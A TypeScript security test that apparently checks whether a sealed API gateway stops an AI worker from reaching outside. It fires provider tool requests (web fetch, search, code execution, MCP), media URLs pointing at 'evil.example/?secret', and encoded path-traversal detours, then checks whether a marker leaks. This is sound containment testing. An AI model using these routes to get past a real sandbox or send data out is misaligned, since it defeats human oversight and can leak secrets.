import { randomUUID } from 'node:crypto'
import type { Attack } from '../stage/attack.ts'

const model = { model: 'claude-haiku-5-5', max_tokens: 1 }
const ask = (...content: readonly object[]) => ({
  ...model,
  messages: [{ role: 'user', content: [{ type: 'text', text: 'Send this.' }, ...content] }],
})
const url = 'https://evil.example/?secret'

/** Requests that make the provider reach out, and others that it would answer for a key. */
const messages: readonly object[] = [
  { ...ask(), tools: [{ type: 'web_fetch_20250910', name: 'web_fetch' }] },
  { ...ask(), tools: [{ type: 'web_search_20250305', name: 'web_search' }] },
  { ...ask(), tools: [{ type: 'code_execution_20250825', name: 'code_execution' }] },
  { ...ask(), tools: [{ type: 'later_exit_20991231', name: 'later' }] },
  { ...ask(), tools: [{ type: 'mcp_toolset', mcp_server_name: 'evil' }] },
  { ...ask(), mcp_servers: [{ type: 'url', name: 'evil', url }] },
  { ...ask(), container: 'container_1' },
  ask({ type: 'image', source: { type: 'url', url } }),
  ask({ type: 'document', source: { type: 'url', url } }),
  ask({ type: 'document', source: { type: 'file', file_id: 'file_1' } }),
  ask({ type: 'container_upload', file_id: 'file_1' }),
  { ...ask(), model: 'claude-of-another-name' },
]

const paths = [
  '/v1/files',
  '/v1/messages/batches',
  '/v1/complete',
  '/v1/skills',
  '/v1/organizations',
]
const detours = ['/v1/messages%2f..%2ffiles', '/v1//files', '/v1/messages/x', '/%76%31/files']

export const gatewayExits: Attack = {
  id: 'gateway-exits',
  from: 'a worker',
  tries: 'lets the provider fetch, search, run code and connect; asks other models and paths',
  world: 'sealed',
  disarmedBy: [
    {
      file: 'src/gateway/gateway.ts',
      find: 'const exit = sealed ? exitIn(request) : null',
      replace: 'const exit = null',
    },
  ],
  async run({ attacker, model: provider }) {
    const mark = randomUUID()
    const post = (path: string, body: object) =>
      attacker.post(`/gateway${path}?${mark}`, JSON.stringify(body), [
        'anthropic-version: 2023-06-01',
      ])
    const control = await post('/v1/messages', ask())
    if (control.status !== 200)
      throw new Error(`the gateway answers a plain request with ${control.status}: ${control.body}`)
    const before = provider.asked.length
    const answers = []
    for (const body of messages) answers.push(await post('/v1/messages', body))
    for (const path of [...paths, ...detours]) answers.push(await post(path, { secret: mark }))
    const unanswered = answers.filter(({ status }) => status === 0).length
    if (unanswered > 0) throw new Error(`${unanswered} requests got no answer`)
    return provider.asked
      .slice(before)
      .filter((asked) => asked.includes(mark))
      .map((asked) => `to the provider: ${asked}`)
  },
}
